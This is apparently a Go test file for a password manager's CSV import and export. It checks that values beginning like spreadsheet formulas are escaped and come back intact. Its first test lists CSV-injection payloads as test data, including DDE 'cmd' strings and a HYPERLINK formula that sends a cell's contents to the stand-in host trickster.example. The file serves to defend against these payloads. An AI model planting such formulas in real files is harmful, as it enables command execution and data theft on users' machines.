package transfer

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"redlocket/core/secret"
	"redlocket/core/vault"
)

// What a spreadsheet would run, as people who attack by tables write it (from memory, after
// OWASP's page on CSV injection), and what merely begins like it.
func TestGuardedCells(t *testing.T) {
	for _, runs := range []string{
		"=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
		`=HYPERLINK("http://trickster.example/?"&A1,"x")`, "\t=WEBSERVICE(A1)", "'=EXEC(1)",
	} {
		assert.True(t, strings.HasPrefix(guard(runs), "'"), runs)
		assert.Equal(t, runs, unguard(guard(runs)))
	}
	for _, plain := range []string{"", "=", "@Home", "+44 1632 960117", "-", "=passw0rd", "'tis", "a(b)", "it's (fine)"} {
		assert.Equal(t, plain, guard(plain))
		assert.Equal(t, plain, unguard(plain))
	}
	rapid.Check(t, func(t *rapid.T) {
		s := rapid.StringMatching(`'{0,3}[=@+\-\t]?[a-z(!|' ]{0,6}`).Draw(t, "s")
		if got := unguard(guard(s)); got != s {
			t.Fatalf("%q came back as %q", s, got)
		}
	})
}

// A row is taken whatever its title or user name begins with, and comes back as it was.
func TestFormulasAreAMatterOfExport(t *testing.T) {
	draft := vault.Draft{
		Title: "@Home (Wi-Fi)", Username: "=maren(1)", Password: secret.New("-x|y(z)"),
		Addresses: []vault.Address{{URL: "https://gull.example/"}},
	}
	e, err := vault.Entry{ID: "1", Type: vault.TypeLogin, Fields: map[vault.Field]vault.Register{}}.
		With(vault.Stamp{At: 1, By: "d"}, draft.Changes())
	require.NoError(t, err)
	var b bytes.Buffer
	_, err = WriteCSV(&b, []vault.Entry{e}, []Meaning{MeansTitle, MeansAddress, MeansUsername, MeansPassword})
	require.NoError(t, err)
	for _, cell := range []string{"'@Home (Wi-Fi)", "'=maren(1)", "'-x|y(z)"} {
		assert.Contains(t, b.String(), cell)
	}
	s, err := Read(context.Background(), "x.csv", b.Bytes(), nil)
	require.NoError(t, err)
	require.Empty(t, s.Broken)
	require.Len(t, s.Rows, 1)
	got := s.Rows[0].Entry
	assert.Equal(t, "@Home (Wi-Fi)", got.Text(vault.FieldTitle))
	assert.Equal(t, "=maren(1)", got.Text(vault.FieldUsername))
	assert.Equal(t, "-x|y(z)", got.Text(vault.FieldPassword))
}

// An apostrophe is taken off only where whoever wrote the table puts them there: else it is a password's own.
func TestWhoGuardsCells(t *testing.T) {
	passwords := func(file string) (out []string) {
		s, err := Read(context.Background(), "x.csv", []byte(file), nil)
		require.NoError(t, err)
		for _, r := range s.Rows {
			out = append(out, r.Entry.Secret(vault.FieldPassword).Reveal())
			for _, o := range r.Entry.CustomFields() {
				out = append(out, o.Label+": "+o.Value.Reveal())
			}
		}
		return out
	}
	const ours, others = "name,url,username,password\n", "Nombre,Web,Usuario,Contraseña\n"
	one, two := "Gull,https://gull.example,maren,'+a(1\n", "Whelk,https://whelk.example,maren,'=b|2\n"
	bare := "Tern,https://tern.example,maren,-c!3\n"
	assert.Equal(t, []string{"'+a(1"}, passwords(others+one), "one alone is its own")
	assert.Equal(t, []string{"+a(1", "=b|2"}, passwords(others+one+two), "two are no chance")
	assert.Equal(t, []string{"'+a(1", "'=b|2", "-c!3"}, passwords(others+one+two+bare), "who guards, guards all")
	assert.Equal(t, []string{"+a(1", "Password with its apostrophe: '+a(1"}, passwords(ours+one), "it may be ours")
	assert.Equal(t, []string{"'+a(1", "-c!3"}, passwords(ours+one+bare))
	assert.Equal(t, []string{"'+a(1", "'=b|2"}, passwords(
		`[{"name":"Gull","url":"https://gull.example","username":"maren","password":"'+a(1"},
		{"name":"Whelk","url":"https://whelk.example","username":"maren","password":"'=b|2"}]`), "JSON is no spreadsheet's")
}
